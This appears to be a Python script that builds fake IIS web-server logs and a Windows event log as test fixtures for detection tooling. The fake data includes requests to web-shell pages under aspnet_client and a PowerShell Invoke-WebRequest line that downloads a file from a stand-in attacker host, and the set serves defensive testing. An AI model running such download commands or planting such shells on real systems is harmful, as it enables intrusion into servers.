import pathlib
import sys

import made_logs

folder = pathlib.Path(sys.argv[1])
HEADER = ("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
          "#Date: 2021-03-03 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query "
          "s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status\n")
ROWS = [
    "GET / - 443 - 192.0.2.70 Mozilla/5.0+(Made;+Upper) https://notbad.example.org/ 200",
    "GET / - 443 - 192.0.2.7 Mozilla/5.0+(Other) - 200",
    "GET / - 443 - 198.51.100.9 Mozilla/5.0+(Other) - 200",
    "GET / - 443 - 192.0.2.8 Mozilla/5.0+(Made;+Up) - 200",
    "GET /go u=https%3A%2F%2Fwww.bad.example.org%2Fx 443 - 192.0.2.8 Mozilla/5.0+(Other) - 302",
    "POST /aspnet_client/shell.aspx - 443 - 192.0.2.8 Mozilla/5.0+(Other) - 200",
    "GET /aspnet_client/webshell.aspx - 443 - 192.0.2.8 Mozilla/5.0+(Other) - 404",
]
(folder / "u_ex210303.log").write_text(
    HEADER + "".join(f"2021-03-03 00:00:0{i} 192.0.2.1 {row}\n" for i, row in enumerate(ROWS)))
chunk = made_logs.Chunk(1)
for text in ("Invoke-WebRequest http://bad.example.net/a/b.php -OutFile x",
             "Invoke-WebRequest http://bad.example.net/a/b.phpx",
             "SHA1=0123456789ABCDEF0123456789ABCDEF01234567,IMPHASH=0",
             r"D:\inetpub\wwwroot\aspnet_client\page1.aspx",
             r"D:\inetpub\wwwroot\aspnet_client\system_web\page1.aspx",
             "from 192.0.2.7.", "10.0.0.7"):
    chunk.add(text)
(folder / "made.evtx").write_bytes(made_logs.evtx([chunk.finish()]))
